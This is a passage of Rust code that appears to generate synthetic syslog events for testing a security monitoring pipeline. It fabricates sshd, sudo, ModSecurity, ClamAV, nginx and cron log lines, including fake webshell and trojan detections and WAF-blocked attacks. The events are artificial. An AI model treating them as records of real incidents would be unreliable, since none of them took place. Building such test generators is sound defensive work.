                                _ => b'0' + c - 52,
                            }));
                        }
                        write!(
                            self.line,
                            "<38>{stamp} {host} sshd[{pid}]: Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{key}"
                        )
                    }
                    3 => {
                        let user = user_name(self.admins.sample(rng));
                        let ip = internal_ip(self.internal.sample(rng));
                        write!(
                            self.line,
                            "<38>{stamp} {host} sshd[{pid}]: Accepted password for {user} from {ip} port {port} ssh2"
                        )
                    }
                    _ => {
                        let user = user_name(self.admins.sample(rng));
                        let ip = internal_ip(self.internal.sample(rng));
                        write!(
                            self.line,
                            "<38>{stamp} {host} sshd[{pid}]: Disconnected from user {user} {ip} port {port}"
                        )
                    }
                };
            }
            Template::Sudo => {
                let host = self.linux.pick(rng);
                let user = user_name(self.admins.sample(rng));
                let command = rng.pick(&COMMANDS, "/usr/bin/id");
                let problem = rng.weighted(
                    &[
                        (0.03, "3 incorrect password attempts ; "),
                        (0.01, "user NOT in sudoers ; "),
                        (0.01, "command not allowed ; "),
                    ],
                    "",
                );
                let pri = if problem.is_empty() { 85 } else { 81 };
                let _ = write!(
                    self.line,
                    "<{pri}>{} {host} sudo: {user:>9} : {problem}TTY=pts/{} ; PWD=/home/{user} ; USER=root ; COMMAND={command}",
                    self.stamps.syslog,
                    rng.below(8),
                );
            }
            Template::WebAttack => {
                let attack = rng.weighted(
                    &[
                        (0.35, 0usize),
                        (0.2, 1),
                        (0.15, 2),
                        (0.1, 3),
                        (0.15, 4),
                        (0.05, 5),
                    ],
                    0,
                );
                let Some((_, a)) = ATTACKS.get(attack) else {
                    return;
                };
                let ip = source_ip(self.ips.sample(rng));
                let host = self.wafs.pick(rng);
                let agent = if a.tag == "attack-reputation-scanner" {
                    "Mozilla/5.00 (Nikto/2.5.0)"
                } else {
                    AGENTS.get(self.agents.sample(rng)).unwrap_or(&"-")
                };
                let _ = write!(
                    self.line,
                    "<132>{} {host} modsecurity: {{\"transaction\":{{\"client_ip\":\"{ip}\",\"time_stamp\":\"{}\",\"server_id\":\"2ce124b0c5d02b433a9392782ff8b313286c1942\",\"client_port\":{},\"host_ip\":\"{}\",\"host_port\":443,\"unique_id\":\"{}.{}\",\"request\":{{\"method\":\"GET\",\"http_version\":1.1,\"uri\":\"{}\",\"headers\":{{\"Host\":\"shop.example.com\",\"User-Agent\":\"{}\",\"Accept\":\"*/*\"}}}},\"response\":{{\"http_code\":403,\"headers\":{{\"Server\":\"nginx\",\"Content-Length\":\"153\",\"Content-Type\":\"text/html\"}}}},\"producer\":{{\"modsecurity\":\"ModSecurity v3.0.9 (Linux)\",\"connector\":\"ModSecurity-nginx v1.0.3\",\"secrules_engine\":\"Enabled\",\"components\":[\"OWASP_CRS/3.3.4\"]}},\"messages\":[{{\"message\":\"{}\",\"details\":{{\"match\":\"Matched Operator against variable ARGS\",\"reference\":\"o0,16v10,16\",\"ruleId\":\"{}\",\"file\":\"/usr/share/modsecurity-crs/rules/{}\",\"lineNumber\":\"{}\",\"data\":\"{}\",\"severity\":\"2\",\"ver\":\"OWASP_CRS/3.3.4\",\"rev\":\"\",\"tags\":[\"application-multi\",\"language-multi\",\"platform-multi\",\"{}\",\"paranoia-level/1\",\"OWASP_CRS\"],\"maturity\":\"0\",\"accuracy\":\"0\"}}}},{{\"message\":\"Inbound Anomaly Score Exceeded (Total Score: {})\",\"details\":{{\"match\":\"Matched Operator `Ge' with parameter `5' against variable `TX:ANOMALY_SCORE'\",\"reference\":\"\",\"ruleId\":\"949110\",\"file\":\"/usr/share/modsecurity-crs/rules/REQUEST-949-BLOCKING-EVALUATION.conf\",\"lineNumber\":\"81\",\"data\":\"\",\"severity\":\"2\",\"ver\":\"OWASP_CRS/3.3.4\",\"rev\":\"\",\"tags\":[\"application-multi\",\"language-multi\",\"platform-multi\",\"attack-generic\"],\"maturity\":\"0\",\"accuracy\":\"0\"}}}}]}}}}",
                    self.stamps.syslog,
                    self.stamps.ctime,
                    rng.between(1024, 65535),
                    internal_ip(rng.below(40) as usize),
                    at.as_second(),
                    rng.below(1_000_000),
                    a.uri,
                    agent,
                    a.message,
                    a.rule,
                    a.file,
                    rng.between(20, 900),
                    a.data,
                    a.tag,
                    5 * rng.between(1, 6),
                );
            }
            Template::Malware => {
                let host = self.linux.pick(rng);
                let user = user_name(self.users.sample(rng));
                let (file, signature) = if rng.chance(0.5) {
                    (
                        format!("/home/{user}/Downloads/invoice_{}.pdf.exe", rng.below(9999)),
                        "Win.Trojan.Agent-1234567",
                    )
                } else {
                    (
                        format!("/var/www/uploads/{}.php", rng.below(99_999)),
                        "Php.Webshell.Generic-6907393-0",
                    )
                };
                let _ = write!(
                    self.line,
                    "<182>{} {host} clamd[{pid}]: {file}: {signature}(44d88612fea8a8f36de82e1278abb02f:68) FOUND",
                    self.stamps.syslog
                );
            }
            Template::NginxError => {
                let host = self.web.pick(rng);
                let ip = source_ip(self.ips.sample(rng));
                let path = PATHS.get(self.paths.sample(rng)).unwrap_or(&"/");
                let _ = write!(
                    self.line,
                    "<187>{} {host} nginx: {} [error] {pid}#{pid}: *{} open() \"/var/www/html{path}\" failed (2: No such file or directory), client: {ip}, server: shop.example.com, request: \"GET {path} HTTP/1.1\", host: \"shop.example.com\"",
                    self.stamps.syslog,
                    self.stamps.nginx_error,
                    rng.below(10_000_000),
                );
            }
            Template::Other => {
                let host = self.linux.pick(rng);
                let stamp = &self.stamps.syslog;
                let _ = match rng.below(4) {
                    0 => write!(
                        self.line,
                        "<78>{stamp} {host} CRON[{pid}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)"
                    ),
                    1 => write!(
                        self.line,
                        "<30>{stamp} {host} systemd[1]: Started Session {} of User {}.",
                        rng.below(100_000),
                        user_name(self.admins.sample(rng))
                    ),
                    2 => write!(
                        self.line,
                        "<30>{stamp} {host} systemd[1]: Starting Daily apt download activities..."
                    ),
                    _ => write!(
                        self.line,
                        "<29>{stamp} {host} app[{pid}]: order {} processed in {} ms (items={}, region=eu-west-1)",
                        rng.below(10_000_000),
                        rng.between(3, 900),
                        rng.between(1, 12)
                    ),
                };
            }
        }
    }
}

impl EventGenerator {
    /// Writes the next event's line into `self.line`; returns its receive time, or `None` after
    /// the last event.
    fn advance(&mut self) -> Option<jiff::Timestamp> {
        if self.next >= self.total {
            return None;
        }
        let i = self.next;
        self.next += 1;
        let at = self.time_of(i);
        self.write_line(at);
        self.key.clear();
        {
            use std::fmt::Write as _;
            let _ = write!(self.key, "gen:{i}");
        }
        self.raw_bytes += self.line.len() as u64 + 1;
        // Received within two seconds of the event, as over a network.
        Some(
            jiff::Timestamp::from_millisecond(at.as_millisecond() + self.rng.below(2000) as i64)
                .unwrap_or(at),
        )
    }

    /// The next event as its syslog line, not parsed (the same sequence as the events).
    pub fn next_line(&mut self) -> Option<&str> {
        self.advance()?;
        Some(&self.line)
    }
}

impl Iterator for EventGenerator {
    type Item = shieldwall_core::Event;

    fn next(&mut self) -> Option<shieldwall_core::Event> {
        let received = self.advance()?;
        Some(self.normaliser.normalise(&shieldwall_parse::Received {
            source: "syslog",
            received,
            key: &self.key,
            payload: self.line.as_bytes(),
        }))
    }
}
